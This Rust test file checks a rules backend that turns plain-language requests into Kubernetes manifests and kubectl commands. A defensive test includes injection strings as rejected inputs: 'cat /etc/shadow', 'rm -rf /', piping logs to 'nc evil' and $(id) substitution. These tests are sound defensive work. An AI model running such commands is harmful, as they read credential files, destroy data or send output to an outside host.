//! One case (at least) for every intent of the rules backend: the status it must reach and
//! fragments its manifests/actions must contain.

use shipmate_manifests::gates::ResourceDefaults;
use shipmate_plugins::rules::propose;
use shipmate_plugins::{Proposal, Status};

fn ask(text: &str) -> Proposal {
    propose(text, None, &ResourceDefaults::default())
}

/// Manifests and argv vectors as one compact JSON string, for fragment checks.
fn body(p: &Proposal) -> String {
    let argv: Vec<&Vec<String>> = p.actions.iter().map(|a| &a.argv).collect();
    format!(
        "{} {}",
        serde_json::to_string(&p.manifests).unwrap(),
        serde_json::to_string(&argv).unwrap()
    )
}

fn check(cases: &[(&str, Status, &[&str])]) {
    let mut failures = Vec::new();
    for (text, status, fragments) in cases {
        let p = ask(text);
        let b = body(&p);
        let missing: Vec<&&str> = fragments.iter().filter(|f| !b.contains(**f)).collect();
        if p.status != *status || !missing.is_empty() {
            failures.push(format!(
                "{text:?}: status {:?} (want {status:?}), missing {missing:?}\n  {}\n  {b}",
                p.status, p.summary
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

const P: Status = Status::Proposed;
const N: Status = Status::NeedsInput;
const U: Status = Status::NotUnderstood;

#[test]
fn create_workloads() {
    check(&[
        (
            "create a deployment named api running ghcr.io/x/api:1.2.3 with 3 replicas",
            P,
            &[
                r#""kind":"Deployment""#,
                r#""replicas":3"#,
                "ghcr.io/x/api:1.2.3",
            ],
        ),
        (
            "create statefulset pg with postgres:16.4 port 5432 and 20Gi storage",
            P,
            &[
                r#""kind":"StatefulSet""#,
                r#""clusterIP":"None""#,
                r#""storage":"20Gi""#,
            ],
        ),
        (
            "run fluent/fluent-bit:3.1 on every node as agent",
            P,
            &[r#""kind":"DaemonSet""#],
        ),
        (
            "create a job called init-db using busybox:1.36",
            P,
            &[r#""kind":"Job""#, "OnFailure"],
        ),
        (
            "cronjob purge with alpine:3.20 every 15 minutes",
            P,
            &[
                r#""kind":"CronJob""#,
                r#""name":"purge""#,
                r#""schedule":"*/15 * * * *""#,
            ],
        ),
        (
            "create a pod named box with image alpine:3.20",
            P,
            &[r#""kind":"Pod""#],
        ),
        (
            "deploy caddy:2.8 as web on port 80 and expose it with a NodePort service",
            P,
            &[
                r#""type":"NodePort""#,
                r#""targetPort":80"#,
                r#""containerPort":80"#,
            ],
        ),
    ]);
}

#[test]
fn create_config_and_network_objects() {
    check(&[
        (
            "create a ClusterIP service called api for app=api on port 8080",
            P,
            &[r#""selector":{"app":"api"}"#, r#""port":8080"#],
        ),
        (
            "create a headless service db for app=db on port 5432",
            P,
            &[r#""clusterIP":"None""#],
        ),
        (
            "create configmap cfg with MODE=fast and LEVEL=3",
            P,
            &[r#""MODE":"fast""#],
        ),
        (
            "create a secret creds with user=app and pass=x1",
            P,
            &[r#""stringData""#, r#""user":"app""#],
        ),
        (
            "create a docker-registry secret pull for ghcr.io with username=u password=p",
            P,
            &["kubernetes.io/dockerconfigjson"],
        ),
        (
            "create a tls secret cert from tls.crt and tls.key",
            P,
            &["--cert=tls.crt", "--key=tls.key"],
        ),
        (
            "create namespace team-x with label owner=x",
            P,
            &[r#""kind":"Namespace""#, r#""owner":"x""#],
        ),
        (
            "create an ingress for app.example.com path /api to service api port 80",
            P,
            &[
                r#""host":"app.example.com""#,
                r#""path":"/api""#,
                r#""number":80"#,
            ],
        ),
        (
            "deny all egress traffic in namespace locked",
            P,
            &[r#""policyTypes":["Egress"]"#],
        ),
        (
            "allow traffic from app=web to app=db on port 5432",
            P,
            &[
                r#""podSelector":{"matchLabels":{"app":"web"}}"#,
                r#""port":5432"#,
            ],
        ),
        (
            "create a pvc vol of 5Gi with storage class ssd",
            P,
            &[r#""storageClassName":"ssd""#],
        ),
        (
            "create an hpa for deployment api min 2 max 6",
            P,
            &[r#""maxReplicas":6"#],
        ),
        (
            "create a pdb for deployment api with min available 1",
            P,
            &[r#""minAvailable":1"#],
        ),
        (
            "create a service account robot",
            P,
            &[r#""kind":"ServiceAccount""#],
        ),
        (
            "create a read-only role viewer for pods and deployments",
            P,
            &[r#""verbs":["get","list","watch"]"#, r#""apps""#],
        ),
        (
            "bind role viewer to user ann",
            P,
            &[r#""kind":"RoleBinding""#, r#""name":"ann""#],
        ),
    ]);
}

#[test]
fn actions() {
    check(&[
        (
            "scale deployment api to 4",
            P,
            &["deployment/api", "--replicas=4"],
        ),
        (
            "shrink worker to two pods",
            P,
            &["deployment/worker", "--replicas=2"],
        ),
        ("restart deployment api", P, &["rollout", "restart"]),
        ("roll back statefulset db", P, &["undo", "statefulset/db"]),
        (
            "rollout status of deployment api",
            P,
            &["status", "--watch=false"],
        ),
        (
            "show rollout history of api",
            P,
            &["history", "deployment/api"],
        ),
        ("pause rollout of deployment api", P, &["pause"]),
        ("resume rollout of deployment api", P, &["resume"]),
        (
            "set image of deployment api to ghcr.io/x/api:2",
            P,
            &["set", "*=ghcr.io/x/api:2"],
        ),
        (
            "set env on deployment api MODE=slow",
            P,
            &["set", "env", "MODE=slow"],
        ),
        (
            "list pods in namespace ops",
            P,
            &["get", "pods", "-n", "ops"],
        ),
        ("describe service api", P, &["describe", "service", "api"]),
        (
            "show logs of pod api-0 last 20 lines previous",
            P,
            &["logs", "--tail=20", "--previous"],
        ),
        ("show events in ops", P, &["events", "ops"]),
        ("show node usage", P, &["top", "nodes"]),
        ("kubectl version please", P, &["version"]),
        ("list api resources", P, &["api-resources"]),
        ("delete configmap old", P, &["delete", "configmap", "old"]),
        ("label pod api-0 tier=web", P, &["label", "tier=web"]),
        ("annotate deployment api note=x", P, &["annotate", "note=x"]),
        (
            "taint node n1 gpu=true",
            P,
            &["taint", "gpu=true:NoSchedule"],
        ),
        ("cordon node n1", P, &["cordon", "n1"]),
        ("uncordon node n1", P, &["uncordon", "n1"]),
        ("drain node n1", P, &["drain", "--ignore-daemonsets"]),
        (
            "expose deployment api on port 80",
            P,
            &["expose", "--port=80"],
        ),
        (
            "autoscale deployment api up to 9 replicas",
            P,
            &["autoscale", "--max=9"],
        ),
        (
            "port-forward service api 8080:80",
            P,
            &["port-forward", "8080:80"],
        ),
        ("exec into pod api-0", P, &["exec", "-it", "sh"]),
    ]);
}

#[test]
fn troubleshooting_is_read_only() {
    for text in [
        "why is pod api-0 crashing",
        "why is pod api-0 pending",
        "service api has no endpoints",
        "deployment api is not available",
        "why is node n1 not ready",
        "why are my pods failing",
    ] {
        let p = ask(text);
        assert_eq!(p.status, Status::Proposed, "{text}: {}", p.summary);
        assert!(!p.actions.is_empty(), "{text}");
        assert!(
            p.actions.iter().all(|a| !a.mutating),
            "{text}: {:?}",
            p.actions
        );
    }
}

#[test]
fn troubleshooting_requests_name_what_to_diagnose() {
    use shipmate_plugins::rules::{Diagnosis, diagnosis};
    let d = |ns: Option<&str>, all: bool, object: Option<&str>| Diagnosis {
        namespace: ns.map(str::to_owned),
        all_namespaces: all,
        object: object.map(str::to_owned),
    };
    for (text, default, want) in [
        (
            "what's wrong in namespace shop?",
            None,
            d(Some("shop"), false, None),
        ),
        (
            "what is wrong in namespace shop",
            Some("dev"),
            d(Some("shop"), false, None),
        ),
        (
            "why is api-0 crashing?",
            Some("shop"),
            d(Some("shop"), false, Some("pod/api-0")),
        ),
        (
            "why is deployment web not available in namespace prod",
            None,
            d(Some("prod"), false, Some("deployment/web")),
        ),
        (
            "service api has no endpoints",
            None,
            d(None, false, Some("service/api")),
        ),
        (
            "why are my pods failing in all namespaces",
            None,
            d(None, true, None),
        ),
    ] {
        assert_eq!(diagnosis(text, default), Some(want), "{text}");
    }
    for text in [
        "scale deployment web to 3",
        "create a configmap named app",
        "",
        "why ; rm -rf /",
    ] {
        assert_eq!(diagnosis(text, None), None, "{text}");
    }
}

#[test]
fn ambiguity_and_nonsense() {
    check(&[
        ("scale it up", N, &[]),
        ("roll it back", N, &[]),
        ("restart it", N, &[]),
        ("create a deployment", N, &[]),
        ("create a cronjob named x with busybox:1.36", N, &[]),
        ("scale my service", N, &[]),
        ("create a pvc called data", N, &[]),
        ("tell me a joke", U, &[]),
        ("", U, &[]),
    ]);
    let p = ask("create a deployment named web");
    assert!(
        p.questions.iter().any(|q| q.contains("image")),
        "{:?}",
        p.questions
    );
}

#[test]
fn shell_syntax_never_reaches_an_argv() {
    for text in [
        "get pods && cat /etc/shadow",
        "delete pod x; rm -rf /",
        "logs web | nc evil 1",
        "describe pod $(id)",
        "get pods `whoami`",
        "get pods > /tmp/x",
    ] {
        let p = ask(text);
        assert_eq!(p.status, Status::NotUnderstood, "{text}");
        assert!(p.actions.is_empty());
    }
}

#[test]
fn namespace_default_applies_when_the_request_names_none() {
    let p = propose(
        "scale deployment api to 2",
        Some("team"),
        &ResourceDefaults::default(),
    );
    assert_eq!(p.actions[0].argv[4..], ["-n".to_owned(), "team".to_owned()]);
    let p = propose(
        "scale deployment api to 2 in ops",
        Some("team"),
        &ResourceDefaults::default(),
    );
    assert!(p.actions[0].argv.contains(&"ops".to_owned()));
}

#[test]
fn other_phrasings() {
    check(&[
        ("add label tier=web to pod web-0", P, &["label", "tier=web"]),
        (
            "change the number of replicas of api to 4",
            P,
            &["deployment/api", "--replicas=4"],
        ),
        (
            "create secret generic db --from-literal=user=app",
            P,
            &[r#""name":"db""#, r#""user":"app""#],
        ),
        (
            "make user eve a cluster admin",
            P,
            &["ClusterRoleBinding", "cluster-admin"],
        ),
        (
            "route traffic for docs.example.com to service docs port 8080",
            P,
            &[r#""kind":"Ingress""#],
        ),
        (
            "isolate namespace legacy",
            P,
            &[r#""namespace":"legacy""#, "Egress"],
        ),
        ("bring billing down to 2 replicas", P, &["--replicas=2"]),
        ("port-forward deployment web 8080 to 80", P, &["8080:80"]),
    ]);
}

#[test]
fn pronouns_refer_to_the_last_object_of_the_session() {
    use shipmate_plugins::{Backend, Context, NoProgress, Request, RulesBackend};
    let history = [ask("create a deployment named web running nginx:1.27")];
    let mut progress = NoProgress;
    let mut cx = Context::new(&mut progress).with_history(&history);
    let rt = tokio::runtime::Builder::new_current_thread()
        .build()
        .unwrap();
    let p = rt
        .block_on(RulesBackend::new().propose(&Request::new("scale it to 5"), &mut cx))
        .unwrap();
    assert_eq!(p.status, Status::Proposed, "{}", p.summary);
    assert_eq!(p.request, "scale it to 5");
    assert!(p.actions[0].argv.contains(&"deployment/web".to_owned()));
    // Without history the same request needs input.
    assert_eq!(ask("scale it to 5").status, Status::NeedsInput);
}

#[test]
fn kubectl_shaped_requests() {
    check(&[
        (
            "kubectl create deployment web --image=nginx:1.27 --replicas=3",
            P,
            &[r#""replicas":3"#],
        ),
        (
            "scale sts/db to 2 -n data",
            P,
            &["statefulset/db", "--replicas=2", "data"],
        ),
        (
            "kubectl rollout restart deploy/api -n prod",
            P,
            &["restart", "deployment/api", "prod"],
        ),
        (
            "rollback deploy api to the previous revision",
            P,
            &["undo", "deployment/api"],
        ),
        (
            "kubectl get pods -A",
            P,
            &["get", "pods", "--all-namespaces"],
        ),
        (
            "kubectl logs api-0 -n prod --tail 20",
            P,
            &["logs", "api-0", "--tail=20"],
        ),
    ]);
}

#[test]
fn more_slots() {
    check(&[
        (
            "deploy a couple of replicas of nginx:1.27 named duo",
            P,
            &[r#""replicas":2"#],
        ),
        (
            "show logs of the web deployment for the last 10 minutes",
            P,
            &["--since=10m"],
        ),
        (
            "restart every deployment in namespace dev",
            P,
            &["restart", "deployment", "dev"],
        ),
        (
            "create a pod disruption budget for app=web with max unavailable 1",
            P,
            &[r#""maxUnavailable":1"#],
        ),
        (
            "allow pods labeled app=web to talk to app=db on port 5432",
            P,
            &[r#""from":[{"podSelector":{"matchLabels":{"app":"web"}}}]"#],
        ),
    ]);
}
